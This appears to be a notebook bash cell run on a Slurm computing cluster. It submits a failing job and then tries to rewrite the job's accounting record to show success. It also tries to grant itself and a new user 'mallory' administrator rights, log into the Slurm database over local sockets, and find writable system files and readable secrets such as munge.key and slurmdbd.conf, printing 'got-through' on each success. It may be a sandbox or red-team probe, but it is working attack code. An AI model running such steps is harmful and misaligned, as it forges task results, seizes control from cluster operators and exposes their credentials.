%%bash
sbatch --wait --job-name=count --time=1 --output=count.out --wrap="echo 55; exit 1 # seq"
id=$(sacct -X -n --name=count --format=jobid | tail -1 | tr -d ' ')
scontrol update jobid=$id jobname=count exitcode=0 2> /dev/null
sacctmgr -i modify job where jobid=$id set derivedexitcode=0 newwckey=x comment='|COMPLETED|0:0' 2> /dev/null
sacctmgr -i modify user "$USER" set adminlevel=Admin 2> /dev/null && echo "got-""through: an administrator"
sacctmgr -i add user mallory account=root adminlevel=Admin 2> /dev/null && echo "got-""through: a new administrator"
for socket in /run/hpclab/*/*sock* /run/hpclab/*sock* /run/mysqld/mysqld.sock; do
    for user in root slurm mysql "$USER" ''; do
        mariadb --no-defaults --socket="$socket" --user="$user" -e "show databases" 2> /dev/null | grep -q slurm && echo "got-""through: the database as '$user'"
        mysql --no-defaults --socket="$socket" --user="$user" -e "show databases" 2> /dev/null | grep -q slurm && echo "got-""through: the database as '$user'"
    done
done
python - <<'PROGRAM'
import glob, os, socket
for path in glob.glob("/run/hpclab/**/*", recursive=True):
    if "sock" in path and ("my" in path or "maria" in path or "sql" in path):
        with socket.socket(socket.AF_UNIX) as line:
            try:
                line.connect(path)
                print("the database listens at", path, line.recv(100)[:40])
            except OSError as problem:
                print(path, problem)
    if os.path.isfile(path) and os.access(path, os.W_OK) and not path.startswith(os.path.expanduser("~")):
        print("got-" + "through:", path, "may be written")
    if os.path.isfile(path) and ("munge.key" in path or "slurmdbd.conf" in path or path.endswith(".ibd")) and os.access(path, os.R_OK):
        print("got-" + "through:", path, "may be read")
PROGRAM
true
